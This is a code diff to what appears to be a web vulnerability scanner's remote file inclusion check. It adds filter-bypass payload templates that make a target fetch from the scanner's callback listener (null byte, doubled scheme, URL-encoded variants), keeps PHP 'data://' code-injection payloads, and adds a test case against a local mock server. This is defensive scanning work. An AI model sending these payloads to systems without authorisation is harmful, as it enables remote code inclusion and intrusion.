@@ -6,6 +6,7 @@ use futures_util::future::BoxFuture;
 use super::computed::{self, products};
 use super::facts::facts;
 use super::marks::Marks;
+use super::traversal::has_likely_name;
 use crate::checks::{About, Bench, Check, Entry, callback};
 use crate::listener::RAN;
 use crate::point::{Place, Point, Put};
@@ -30,13 +31,16 @@ const SHOWN: &[&str] =
     &["data://text/plain,<?php print({a}*{b});?>", "data:text/plain,<?php print({a}*{b});?>#"];
 
 /// Addresses of the listener: with what makes an added extension harmless, and past filters for the usual writing. `{host}`
-/// stands for the host of the usual value.
+/// stands for the host of the usual value, `{v}` for all of it, where its beginning or end is looked at.
 const CALLING: &[&str] = &[
     "http://{{callback}}/{{token}}?",
     "http://{{callback}}/{{token}}\0",
     "HTTP://{{callback}}/{{token}}",
     "hthttp://tp://{{callback}}/{{token}}?",
     "http://{host}@{{callback}}/{{token}}?",
+    "http://{{callback}}/{{token}}?{v}",
+    "http://{{callback}}/{{token}}#",
+    "http%3A%2F%2F{{callback}}/{{token}}%3F",
 ];
 
 impl Check for RemoteFile {
@@ -56,7 +60,8 @@ impl Check for RemoteFile {
 
 async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     let Some(known) = facts(bench, entry, point).await else { return };
-    if !known.matters {
+    // What can't be included may be left out without a word.
+    if !known.matters && !has_likely_name(point) {
         return;
     }
     if let Some((payload, proof)) = by_call(bench, entry, point).await {
@@ -76,7 +81,7 @@ async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(Str
         if form.contains("{host}") && host.is_none() {
             continue;
         }
-        let payload = form.replace("{host}", host.unwrap_or_default());
+        let payload = form.replace("{host}", host.unwrap_or_default()).replace("{v}", &point.value);
         let token = callback::token_at(entry, point, form);
         let sent = callback::filled(bench, &payload, &token)?;
         let answer = bench.send_of(entry, &entry.request.with(point, Put::Text(&sent))).await.ok()?;
@@ -123,6 +128,10 @@ mod tests {
                 (found[1].parse::<u64>().unwrap() * found[2].parse::<u64>().unwrap()).to_string(),
             ),
             _ if page == "home" => Answer::html("<p>Welcome</p>"),
+            _ if asked.path == "/themed" => {
+                let rest = page.ends_with("home.css").then(|| include(&page, true)).unwrap_or_default();
+                Answer::html(format!("<p>Welcome</p>{rest}"))
+            }
             _ if asked.path == "/remote" => Answer::html(include(&format!("{page}.html"), true)),
             _ if asked.path == "/fetched" => Answer::html(include(&page, false)),
             _ => Answer::html(format!("no {}", page.replace('<', "&lt;"))),
@@ -140,8 +149,9 @@ mod tests {
     async fn programs_of_the_listener_that_run_are_found_and_texts_are_not() {
         let server = serve(answer).await;
         let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
-        for (path, wanted) in [("/remote", 1), ("/fetched", 0), ("/shown", 0)] {
-            let url = Target::parse(&format!("http://{server}{path}?page=home")).unwrap();
+        for (path, wanted) in [("/remote", 1), ("/fetched", 0), ("/shown", 0), ("/themed", 1)] {
+            let page = if path == "/themed" { "home.css" } else { "home" };
+            let url = Target::parse(&format!("http://{server}{path}?page={page}")).unwrap();
             let extras = Extras { listener: Some(&listener), ..Extras::default() };
             let (found, _) = scan_with(&RemoteFile, vec![Request::get(url)], extras).await;
             assert_eq!(found.iter().filter(|found| found.qid == 150_057).count(), wanted, "{path}");
